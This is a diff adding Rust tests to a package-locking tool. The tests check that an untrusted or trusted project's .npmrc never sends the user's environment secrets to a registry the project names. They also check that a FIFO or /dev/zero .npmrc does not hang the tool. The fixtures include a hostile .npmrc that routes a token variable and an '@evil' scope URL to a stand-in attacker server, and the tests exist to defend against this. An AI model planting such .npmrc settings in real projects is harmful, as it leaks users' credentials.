@@ -93,3 +93,132 @@ fn a_wheel_listed_without_a_sha256_pins_nothing() {
     assert_eq!(code, Some(1), "{text}");
     assert!(text.contains("has no sha256"), "{text}");
 }
+
+/// The npm documents of `esbuild@0.24.0` for linux-x64, as routes of a registry.
+fn esbuild_routes() -> Vec<(String, Vec<u8>)> {
+    vec![
+        ("/esbuild".to_owned(), npm::data("esbuild.json")),
+        (
+            "/@esbuild/linux-x64/0.24.0".to_owned(),
+            npm::data("esbuild-linux-x64-0.24.0.json"),
+        ),
+    ]
+}
+
+/// Issue 66, item 1: a cloned project's `.npmrc` names a host of its own with a
+/// variable of the user's environment as its token (and in a registry URL's path).
+/// Untrusted, the file is not read at all (said); trusted, its registry is read but
+/// it expands nothing and gives no credentials (said, naming the key, not the
+/// value). The "attacker" registry records each request's `Authorization`: the
+/// secret never reaches it, nor the output, nor vx.lock.
+#[test]
+fn a_cloned_projects_npmrc_never_sends_the_users_environment_anywhere() {
+    const SECRET: &str = "s3cret-of-the-user-66";
+    let attacker = npm::PrivateRegistry::start(SECRET, |_| esbuild_routes());
+    let registry = npm::serve();
+    let project = Project::new(&npm::config(&registry), NPM);
+    let port = attacker.url.rsplit(':').next().unwrap();
+    std::fs::write(
+        project.work.dir.path().join(".npmrc"),
+        format!(
+            "registry={}/\n//127.0.0.1:{port}/:_authToken=${{SOME_SECRET}}\n@evil:registry={}/${{SOME_SECRET}}/\n",
+            attacker.url, attacker.url
+        ),
+    )
+    .unwrap();
+    let lock = |args: &[&str]| {
+        let _ = std::fs::remove_file(project.work.dir.path().join("vx.lock"));
+        let out = project
+            .vx()
+            .env("SOME_SECRET", SECRET)
+            .args(args)
+            .output()
+            .unwrap();
+        (out.status.success(), common::both(&out))
+    };
+    // Untrusted: npm's default registry, and why.
+    let (ok, text) = lock(&["lock"]);
+    assert!(
+        attacker.log().is_empty(),
+        "the project's host was asked: {:?}",
+        attacker.log()
+    );
+    assert!(ok, "{text}");
+    assert!(
+        text.contains(".npmrc is not read: the project is not trusted"),
+        "{text}"
+    );
+    let locked = project.lock_text().unwrap();
+    assert!(!locked.contains(SECRET) && !text.contains(SECRET), "{text}");
+
+    // Trusted: its registry is read, its token is not (nor any `${…}`).
+    project.vx().arg("trust").assert().success();
+    let (ok, text) = lock(&["lock", "-v"]);
+    let log = attacker.log();
+    assert!(!log.is_empty(), "the project's registry was read: {text}");
+    assert!(
+        log.iter().all(|l| l.ends_with(" none")),
+        "a credential reached the project's host: {log:?}"
+    );
+    assert!(!ok, "the host answers 401 to no token: {text}");
+    assert!(
+        text.contains(&format!(
+            "`//127.0.0.1:{port}/:_authToken` is not used: a project's .npmrc gives no credentials"
+        )),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "`@evil:registry` is not used: a project's .npmrc does not read your environment"
+        ),
+        "{text}"
+    );
+    assert!(!text.contains(SECRET), "{text}");
+    if let Some(locked) = project.lock_text() {
+        assert!(!locked.contains(SECRET), "{locked}");
+    }
+}
+
+/// Issue 66, item 9: a project's `.npmrc` that is a FIFO (no writer: a plain read
+/// blocks for ever) or a link to `/dev/zero` (endless) is read through the bounded
+/// reader: a note naming it, quickly, and the lock goes on without it.
+#[cfg(unix)]
+#[test]
+fn a_projects_npmrc_that_is_a_fifo_or_dev_zero_is_a_note_not_a_hang() {
+    let registry = npm::serve();
+    let project = Project::new(&npm::config(&registry), NPM);
+    project.vx().arg("trust").assert().success();
+    let npmrc = project.work.dir.path().join(".npmrc");
+    for (make, says) in [
+        (
+            Box::new(|p: &std::path::Path| {
+                let status = std::process::Command::new("mkfifo")
+                    .arg(p)
+                    .status()
+                    .unwrap();
+                assert!(status.success());
+            }) as Box<dyn Fn(&std::path::Path)>,
+            "a FIFO, not a regular file",
+        ),
+        (
+            Box::new(|p: &std::path::Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap()),
+            "not a regular file",
+        ),
+    ] {
+        let _ = std::fs::remove_file(&npmrc);
+        let _ = std::fs::remove_file(project.work.dir.path().join("vx.lock"));
+        make(&npmrc);
+        let out = project
+            .vx()
+            .arg("lock")
+            .timeout(std::time::Duration::from_secs(120))
+            .output()
+            .unwrap();
+        let text = common::both(&out);
+        assert!(out.status.success(), "{says}: {text}");
+        assert!(
+            text.contains(".npmrc is not read: ") && text.contains(says),
+            "{text}"
+        );
+    }
+}
